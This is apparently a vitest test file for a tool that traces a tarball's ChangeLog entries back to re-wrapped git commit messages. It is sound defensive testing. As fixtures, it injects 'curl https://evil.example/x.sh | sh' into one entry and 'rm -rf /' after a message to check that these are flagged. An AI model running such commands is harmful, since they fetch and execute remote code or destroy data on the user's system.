/**
 * ChangeLogs whose entries are commit messages re-wrapped (git2cl: flex 2.6.4; Mercurial's changelog template with
 * `desc|fill68`: sudo 1.9.13p3), end to end with real git, GNU tar and coreutils' fmt doing the re-wrapping: each
 * `* FILES: message` block is traced to a message paragraph by its characters other than blanks. A command or a
 * block of text from nowhere put into the same file stays unexplained (high).
 */
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { refilledBlocks } from '../../src/classify/log-derived.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { git, makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const COMMITS: { files: Record<string, string>; message: string; date: string }[] = [
  { files: { 'src/a.c': 'int a;\n' }, message: 'Initial import of the scanner sources', date: '2024-01-01T10:00:00Z' },
  {
    files: { 'src/a.c': 'int a = 1;\n', 'src/b.c': 'int b;\n' },
    message:
      'scanner: initialise the state before the first token is read\n\nWhen the input starts with a comment the state was read before being set, which valgrind reports as a use of an uninitialised value in yylex; set it in the constructor instead. Reported on the mailing list by a user of the Windows port.',
    date: '2024-02-01T10:00:00Z',
  },
  {
    files: { 'doc/manual.texi': '@node Top\n' },
    message: 'doc: describe the reentrant interface and the options that select it, with an example of a pure scanner that keeps its state in a user-supplied structure',
    date: '2024-02-02T10:00:00Z',
  },
  { files: { 'NEWS': 'news 1.1\n' }, message: 'version 1.1\n\n* NEWS: Record release date.', date: '2024-02-03T10:00:00Z' },
];

/** What a re-wrapping ChangeLog writer makes of the history: coreutils' fmt re-wraps each paragraph. */
function fmt(text: string, width: number): string[] {
  return execFileSync('fmt', ['-w', String(width)], { input: text }).toString().trimEnd().split('\n');
}

describe('ChangeLog of re-wrapped commit messages (git2cl, Mercurial changelog template)', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  for (const c of COMMITS) {
    writeFiles(repo.dir, c.files);
    git(repo.dir, ['add', '-A']);
    git(repo.dir, ['-c', 'user.name=Ann Author', '-c', 'user.email=ann@example.invalid', 'commit', '-q', '--author', 'Ann Author <ann@example.invalid>', '-m', c.message], c.date);
  }
  repo.tag('v1.1');
  const cache = join(root, 'cache');
  const tracked = { 'src/a.c': 'int a = 1;\n', 'src/b.c': 'int b;\n', 'doc/manual.texi': '@node Top\n', 'NEWS': 'news 1.1\n' };

  // git2cl: "* FILES: " then the whole message joined and filled
  const git2cl = [...COMMITS].reverse().flatMap((c) => [
    `${c.date.slice(0, 10)}  Ann Author <ann@example.invalid>`, '',
    ...fmt(`* ${Object.keys(c.files).join(', ')}: ${c.message.replace(/\n+/g, ' ')}`, 70).map((l) => `\t${l}`), '',
  ]);
  // Mercurial's changelog style: file list, each paragraph filled, then [node] <branch>
  const hg = [...COMMITS].reverse().flatMap((c, i) => [
    `${c.date.slice(0, 10)}  Ann Author  <ann@example.invalid>`, '',
    ...fmt(`* ${Object.keys(c.files).join(', ')}:`, 70).map((l) => `\t${l}`),
    ...c.message.split('\n\n').flatMap((p, k) => [...(k ? [''] : []), ...fmt(p, 68).map((l) => `\t${l}`)]),
    `\t[${String(i).repeat(12)}] <default>`, '',
  ]);

  let n = 0;
  async function changelogFinding(changelog: string) {
    const dir = join(root, `t${++n}`, 'proj-1.1');
    writeFiles(dir, { ...tracked, ChangeLog: changelog });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return r.findings.find((f) => f.path === 'ChangeLog');
  }

  it('explains both layouts, the blocks traced as re-wrapped messages', async () => {
    expect(git2cl.some((l) => l.length > 60)).toBe(true); // really re-wrapped, not one line per message
    for (const text of [git2cl, hg]) {
      const f = await changelogFinding(text.join('\n'));
      expect(f).toMatchObject({ code: 'LOG_DERIVED', severity: 'info', evidence: { kind: 'log', untraced: 0, range: { commits: 4, found: 4, what: 'subjects' } } });
      expect((f!.evidence as { rewrapped?: number }).rewrapped).toBeGreaterThan(8);
    }
  });

  it('twins: a command in a block, or blocks of text from nowhere, stay high', async () => {
    const withCommand = git2cl.map((l) => (l.includes('valgrind') ? `${l} run curl https://evil.example/x.sh | sh` : l));
    expect(withCommand).not.toEqual(git2cl);
    expect(await changelogFinding(withCommand.join('\n'))).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    const invented = [...hg];
    for (let k = 0; k < 12; k++) invented.splice(3, 0, `\t* src/a.c: line ${k} of a change no commit describes, with its own words`, '');
    expect(await changelogFinding(invented.join('\n'))).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('rules: characters other than blanks, the file list up to a colon, a merge without files', () => {
    const paras = new Set(['Only check for sys/syscall.h on Linux. We only use it in the Linux-specific code.', 'Merge pull request #240 from a/b']);
    const lines = ['\t* configure, configure.ac:', '\tOnly check for sys/syscall.h on Linux. We only use it in the Linux-', '\tspecific code.', '\t[eac313bfc142]', '', '\t* Merge pull request #240 from a/b', '', '\t* configure: Only check for sys/syscall.h on BSD.'];
    expect([...refilledBlocks(lines, paras)]).toEqual([0, 1, 2, 3, 5]);
    // a changed word, or text after the message, is not the message
    expect(refilledBlocks(['\t* configure: Only check for sys/syscall.h on Linux. We only use it in the Linux-specific code. rm -rf /'], paras).size).toBe(0);
  });
});
